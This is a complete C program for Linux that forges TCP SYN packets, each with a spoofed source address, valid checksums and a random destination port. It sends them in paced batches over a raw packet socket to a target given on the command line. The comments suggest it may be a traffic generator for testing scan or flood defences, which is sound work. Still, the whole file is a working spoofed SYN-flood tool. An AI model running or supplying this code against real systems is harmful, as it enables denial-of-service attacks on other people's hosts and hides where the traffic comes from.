/* Sends forged SYNs at a steady pace, each from a source of its own to a random port of 1 to PORTS, with checksums that
 * hold: sender IFACE MAC TARGET PORTS RATE COUNT. Prints how many it has sent, and how many nanoseconds that took. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { batch = 16, ip = 14, tcp = 34, size = 54 };

static unsigned char frames[batch][size];

/* A permutation of 32 bits (the finalizer of MurmurHash3). */
static uint32_t mix(uint32_t word) {
	word = (word ^ word >> 16) * 0x85ebca6b;
	word = (word ^ word >> 13) * 0xc2b2ae35;
	return word ^ word >> 16;
}

/* Nobody's, this host's own network, and the networks of documentation that the real scans come from (RFC 5737). */
static int isTaken(uint32_t source) {
	unsigned first = source >> 24;
	return first == 0 || first == 10 || first == 127 || first >= 224 || source >> 8 == 0xc63364 || source >> 8 == 0xcb0071;
}

static uint32_t nextSource(void) {
	static uint32_t number;
	uint32_t source;
	do source = mix(number++);
	while (isTaken(source));
	return source;
}

static uint32_t sum(const unsigned char *bytes, int length) {
	uint32_t total = 0;
	for (int i = 0; i < length; i += 2) total += bytes[i] << 8 | bytes[i + 1];
	return total;
}

static void put16(unsigned char *at, uint32_t value) { at[0] = value >> 8, at[1] = value; }

static uint32_t folded(uint32_t total) {
	while (total >> 16) total = (total & 0xffff) + (total >> 16);
	return ~total & 0xffff;
}

static void forge(unsigned char *f, unsigned ports) {
	uint32_t source = nextSource(), random = mix(source ^ 0x9e3779b9);
	put16(f + ip + 12, source >> 16), put16(f + ip + 14, source);
	put16(f + ip + 10, 0), put16(f + ip + 10, folded(sum(f + ip, 20)));
	put16(f + tcp, 1024 + random % 60000), put16(f + tcp + 2, 1 + (random >> 16) % ports);
	put16(f + tcp + 4, random), put16(f + tcp + 6, random >> 16);
	/* The pseudo header of RFC 9293, 3.1: both addresses, the protocol, the length. */
	put16(f + tcp + 16, 0), put16(f + tcp + 16, folded(sum(f + ip + 12, 8) + 6 + 20 + sum(f + tcp, 20)));
}

static uint64_t now(void) {
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000ull + t.tv_nsec;
}

int main(int argc, char **argv) {
	if (argc != 7) return 2;
	int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1;
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one);
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(0x0800)};
	to.sll_ifindex = if_nametoindex(argv[1]);
	if (bind(fd, (void *)&to, sizeof to) < 0) return perror("bind"), 1;
	unsigned mac[6], ports = atoi(argv[4]);
	sscanf(argv[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
	struct iovec parts[batch];
	struct mmsghdr messages[batch] = {0};
	for (int i = 0; i < batch; i++) {
		unsigned char *f = frames[i];
		for (int j = 0; j < 6; j++) f[j] = mac[j];
		memcpy(f + 6, "\2\0\0\0\0\1\10\0\105\0\0\50\0\1\0\0\100\6", 18);
		inet_pton(AF_INET, argv[3], f + ip + 16);
		memcpy(f + tcp + 12, "\120\2\4\0", 4);
		parts[i] = (struct iovec){f, size};
		messages[i].msg_hdr.msg_iov = parts + i, messages[i].msg_hdr.msg_iovlen = 1;
	}
	double pace = 1e9 / atof(argv[5]);
	long count = atol(argv[6]), sent = 0;
	uint64_t start = now();
	while (sent < count) {
		int want = count - sent < batch ? count - sent : batch, done = 0;
		for (int i = 0; i < want; i++) forge(frames[i], ports);
		while (now() - start < sent * pace);
		/* What was not taken is sent again: each source once. */
		while (done < want) {
			int n = sendmmsg(fd, messages + done, want - done, 0);
			if (n > 0) done += n;
		}
		sent += want;
	}
	printf("%ld %llu\n", sent, (unsigned long long)(now() - start));
}
